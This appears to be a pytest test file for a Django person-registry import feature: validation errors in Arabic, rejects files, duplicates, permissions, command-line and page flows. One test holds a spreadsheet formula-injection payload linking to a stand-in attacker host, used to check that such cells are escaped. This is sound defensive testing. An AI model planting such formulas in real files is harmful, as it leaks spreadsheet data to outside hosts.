"""Importing persons: all or nothing, --skip-invalid with rejects, no duplicates, permissions, CLI, page."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from sijill.audit.models import AuditEntry
from sijill.core.errors import PermissionDenied
from sijill.imports import services
from sijill.imports.models import ImportJob, JobStatus
from sijill.persons.models import Person, PersonAlias

pytestmark = pytest.mark.django_db
SAMPLES = Path(__file__).resolve().parent.parent / "samples"
BROKEN = (SAMPLES / "persons-broken-cp1256.csv").read_bytes()
GOOD = (SAMPLES / "persons-good-cp1256.csv").read_bytes()


@pytest.fixture(autouse=True)
def _synchronous(settings):
    settings.SIJILL_IMPORT_BACKGROUND = False


FATHERS = [
    *("أحمد", "علي", "سالم", "خالد", "عمر", "يوسف", "حسن", "حسين", "محمود", "فرج", "صالح", "مفتاح", "ميلاد"),
    *("رمضان", "جمعة", "خليفة", "بشير", "عثمان", "عادل", "طارق", "مراد", "فتحي", "نوري", "ناصر", "سعد", "سعيد"),
    *("مسعود", "جمال", "كمال", "إبراهيم"),
]


def _csv(*rows: str, header: str = "الاسم الأول,اسم الأب,اللقب,الجنس,تاريخ الميلاد,الرقم الوطني") -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def test_broken_file_is_refused_with_each_error_in_arabic_and_nothing_written(actor_of):
    before = Person.objects.count()
    report = services.do_import(actor_of("clerk"), "persons", BROKEN, "broken.csv")
    assert not report.imported and report.refused
    assert report.encoding == "cp1256" and report.delimiter == ";"
    problems = {(p.line, p.column): p.message for p in report.problems}
    assert set(problems) == {(2, "الرقم الوطني"), (3, "تاريخ الميلاد"), (4, "الاسم الأول"), (5, "الرقم الوطني")}
    assert problems[(3, "تاريخ الميلاد")] == "هذا التاريخ غير موجود في التقويم (تحقق من اليوم والشهر)."
    assert problems[(4, "الاسم الأول")] == "حقل إلزامي: هذه الخانة فارغة."
    assert Person.objects.count() == before
    event = AuditEntry.objects.filter(action="import.refused").latest("seq")
    assert event.after["invalid"] == 4 and event.after["sha256"] == report.sha256


def test_good_file_goes_in_once_and_reimport_adds_nothing(actor_of):
    clerk = actor_of("clerk")
    before = Person.objects.count()
    first = services.do_import(clerk, "persons", GOOD, "good.csv")
    assert first.imported and (first.created, first.existing) == (8, 0)
    assert Person.objects.count() == before + 8
    person = Person.objects.get(national_number="219910087344")
    assert (person.first_name, person.family_name, person.sex, person.birth_year) == ("خديجة", "بوخمادة", "f", 1991)
    assert person.nationality == "LY" and person.name_keys.exists()
    assert Person.objects.get(first_name="محمود", family_name="السنوسي").nationality == "EG"
    again = services.do_import(clerk, "persons", GOOD, "good-again.csv")
    assert again.imported and (again.created, again.existing) == (0, 8)
    assert Person.objects.count() == before + 8
    event = AuditEntry.objects.filter(action="import.run").latest("seq")
    assert event.after["created"] == 0 and event.after["existing"] == 8 and event.object_repr == "good-again.csv"


def test_reimport_of_rows_without_identifiers_is_harmless_too(actor_of):
    data = _csv("عائشة,سالم,الككلي,أنثى,01/01/1970,", "عائشة,سالم,الككلي,أنثى,02/02/1972,")
    assert services.do_import(actor_of("clerk"), "persons", data, "a.csv").created == 2
    assert services.do_import(actor_of("clerk"), "persons", data, "a.csv").existing == 2


def test_duplicates_in_the_file_and_inconsistent_identifiers_are_reported(actor_of):
    data = _csv(
        "علي,محمد,الزوي,ذكر,١٠/٠٥/١٩٨٠,١١٩٨٠٠٠١٢٣٤٥",  # Arabic-Indic digits
        "علي,محمد,الزوي,ذكر,10/05/1980,119800012345",  # the same person again
        "هدى,علي,الزوي,أنثى,10/05/1985,219800012346",  # national number says 1980
        "نوري,علي,الزوي,رجل,10/05/1985,",
        "سعاد,,,,,",
    )
    report = services.do_import(actor_of("clerk"), "persons", data, "dup.csv")
    lines = {p.line: (p.column, p.message) for p in report.problems}
    assert lines[3] == ("الرقم الوطني", "مكرر: الشخص أو السجل نفسه ورد في السطر 2 من هذا الملف.")
    assert lines[4][0] == "الرقم الوطني"
    assert lines[5][0] == "الجنس" and "رجل" in lines[5][1]
    assert report.valid == 2 and not report.imported


def test_skip_invalid_imports_the_valid_rows_and_returns_the_rejects(actor_of):
    before = Person.objects.count()
    report = services.do_import(actor_of("clerk"), "persons", BROKEN, "broken.csv", skip_invalid=True)
    assert report.imported and report.created == 1 and report.invalid == 4
    assert Person.objects.count() == before + 1
    assert report.rejects.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it in Arabic
    rows = list(csv.reader(io.StringIO(report.rejects.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][-1] == "الأخطاء" and rows[0][:2] == ["الاسم الأول", "اسم الأب"]
    assert len(rows) == 5 and rows[3][0] == "" and "الاسم الأول" in rows[3][-1]


def test_rejects_file_neutralises_formula_cells_and_reads_back_as_given(actor_of):
    """A legacy file's cell beginning with = or @ was copied verbatim into the rejects file."""
    from sijill.imports.readers import read_table

    hostile = '=HYPERLINK("http://evil.example/"&A1)'
    data = _csv(f"{hostile},محمد,الزوي,ذكر,31/02/1980,", "@SUM(1+9),علي,الككلي,ذكر,01/01/1980,-5")
    report = services.do_import(actor_of("clerk"), "persons", data, "formulas.csv", skip_invalid=True)
    rows = list(csv.reader(io.StringIO(report.rejects.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + hostile, "'@SUM(1+9)"]
    assert rows[2][5] == "-5"  # a plain number is no formula
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r")]
    again = read_table(report.rejects)  # the corrected rejects file is given back as it was
    assert [cells[0] for _line, cells in again.rows] == [hostile, "@SUM(1+9)"]


def test_xlsx_file_with_aliases(actor_of):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["first name", "father", "family", "sex", "birth year", "national number", "aliases"])
    sheet.append(["Ramadan", "", "", "M", 1990, "", ""])  # Latin first names are names too
    sheet.append(["رمضان", "خليفة", "الشريف", "ذكر", 1975, "119750044321", "أبو خليل؛ رمضان خليفة بن الشريف"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = services.do_import(actor_of("clerk"), "persons", buffer.getvalue(), "legacy.xlsx")
    assert report.imported and report.created == 2, report.problems
    person = Person.objects.get(national_number="119750044321")
    assert sorted(a.first_name for a in PersonAlias.objects.filter(person=person)) == ["أبو", "رمضان"]


def test_missing_required_column_refuses_the_file(actor_of):
    report = services.do_import(actor_of("clerk"), "persons", "اللقب,الجنس\nالزوي,ذكر\n".encode(), "x.csv")
    assert report.file_error.startswith("أعمدة إلزامية غير موجودة في الملف") and not report.imported


def test_roles_without_import_or_the_registrys_permission_are_refused(actor_of):
    with pytest.raises(PermissionDenied):
        services.do_import(actor_of("checkpoint"), "persons", GOOD, "good.csv")
    with pytest.raises(PermissionDenied):  # personnel may import, but not persons
        services.do_import(actor_of("personnel"), "persons", GOOD, "good.csv")
    assert services.importers_for(actor_of("personnel")) == []


def test_cli_refuses_a_broken_file_and_imports_with_skip_invalid(tmp_path, demo):
    broken = tmp_path / "broken.csv"
    broken.write_bytes(BROKEN)
    out = io.StringIO()
    with pytest.raises(CommandError, match="رُفض الملف"):
        call_command("import", "persons", str(broken), "--as", "clerk", "--no-progress", stdout=out)
    assert "السطر 3، العمود «تاريخ الميلاد»" in out.getvalue()
    rejects = tmp_path / "rejects.csv"
    out = io.StringIO()
    call_command(
        "import", "persons", str(broken), "--as", "clerk", "--skip-invalid", "--rejects", str(rejects),
        "--no-progress", stdout=out,
    )  # fmt: skip
    assert "تم الاستيراد: 1" in out.getvalue()
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf")
    with pytest.raises(CommandError):
        call_command("import", "persons", str(broken), "--as", "checkpoint", "--no-progress", stdout=io.StringIO())


def test_page_flow_upload_report_import_valid_rows_and_rejects(client_of):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_of("clerk")
    assert client.get(reverse("imports:index")).status_code == 200
    response = client.post(
        reverse("imports:index"),
        {"registry": "persons", "file": SimpleUploadedFile("broken.csv", BROKEN, content_type="text/csv")},
    )
    job = ImportJob.objects.latest("created_at")
    assert response.status_code == 302 and job.status == JobStatus.INVALID and job.invalid == 4
    page = client.get(reverse("imports:job", args=[job.pk])).content.decode()
    assert "هذا التاريخ غير موجود في التقويم" in page and "import-run-valid" in page and 'import-run"' not in page
    before = Person.objects.count()
    client.post(reverse("imports:run", args=[job.pk]), {"skip_invalid": "1"})
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.created == 1 and Person.objects.count() == before + 1
    assert bytes(job.content) == b""  # the uploaded data is not kept after the import
    download = client.get(reverse("imports:rejects", args=[job.pk]))
    assert download.status_code == 200 and download.content.startswith(b"\xef\xbb\xbf")
    # Another clerk's job is not there for someone else; a checkpoint officer may not import at all.
    assert client_of("investigator").get(reverse("imports:job", args=[job.pk])).status_code == 403
    assert client_of("checkpoint").get(reverse("imports:index")).status_code == 403


def test_upload_size_is_bounded(client_of, settings, monkeypatch):
    from django.core.files.uploadedfile import SimpleUploadedFile

    monkeypatch.setattr(services, "MAX_UPLOAD_BYTES", 100)
    response = client_of("clerk").post(
        reverse("imports:index"), {"registry": "persons", "file": SimpleUploadedFile("big.csv", GOOD)}
    )
    assert response.status_code == 200 and "الملف أكبر من المسموح" in response.content.decode()


def test_a_long_file_checks_duplicates_in_bounded_memory_with_the_same_report(actor_of):
    """Past ``keep_rows`` the natural keys are kept as digests: the same lines are reported."""
    from sijill.imports.engine import _SeenKeys, validate

    rows = [f"علي,{FATHERS[i % 30]},الزوي,ذكر,10/05/1980,1198000{i:05d}" for i in range(40)]
    rows.append("علي,محمد,الزوي,ذكر,10/05/1980,119800000003")  # line 42 repeats line 5
    importer = services.importer_for("persons")
    small = validate(importer, _csv(*rows), "long.csv", keep_rows=5)
    assert {(p.line, p.message) for p in small.problems} == {
        (42, "مكرر: الشخص أو السجل نفسه ورد في السطر 5 من هذا الملف.")
    }
    seen = _SeenKeys(exact_up_to=2)
    assert [seen.first_line(f"k{i % 7}", i) for i in range(1, 12)] == [None] * 7 + [1, 2, 3, 4]
    assert seen.exact is None and seen.size == 7


def test_a_national_load_rebuilds_the_name_index_in_its_transaction(actor_of, monkeypatch):
    """Past BIG_LOAD (made small here) the name index is dropped, loaded and built again, in the
    import's own transaction: the same indexes afterwards, every key searchable."""
    from django.db import connection

    from sijill.persons import services as persons
    from sijill.persons.models import PersonNameKey

    def indexes() -> set[str]:
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = %s", [PersonNameKey._meta.db_table]
            )
            return {f"{name}: {definition}" for name, definition in cursor.fetchall()}

    if connection.vendor != "postgresql":
        pytest.skip("the rebuild is PostgreSQL's path; SQLite grows its index")
    before = indexes()
    monkeypatch.setattr(persons, "BIG_LOAD", 10)
    rows = [f"سالم,{FATHERS[i]},التاجوري,ذكر,10/05/1980,1198000{i:05d}" for i in range(30)]
    report = services.do_import(actor_of("clerk"), "persons", _csv(*rows), "national.csv")
    assert report.imported and report.created == 30
    assert indexes() == before
    found = persons.find_candidates(persons.SearchQuery(text="سالم مسعود التاجوري").chain(), actor_of("clerk"))
    assert "مسعود" in {p.father_name for p in found}


def test_the_name_keys_of_a_worker_process_are_the_keys_of_the_person(actor_of):
    """bulk_load_persons computes keys in a worker process for large loads: the same keys."""
    from sijill.persons import services as persons
    from sijill.persons.models import PersonNameKey

    rows = [{"first_name": "مؤمن", "father_name": FATHERS[i], "family_name": "القرين", "latin_name": "Momen Guren"}
            for i in range(12)]  # fmt: skip
    assert persons.bulk_load_persons(actor_of("clerk"), rows, batch_size=5, worker=True) == 12
    for person in Person.objects.filter(family_name="القرين"):
        stored = set(PersonNameKey.objects.filter(person=person).values_list("key", flat=True))
        assert stored == set(persons.keys_of(person))
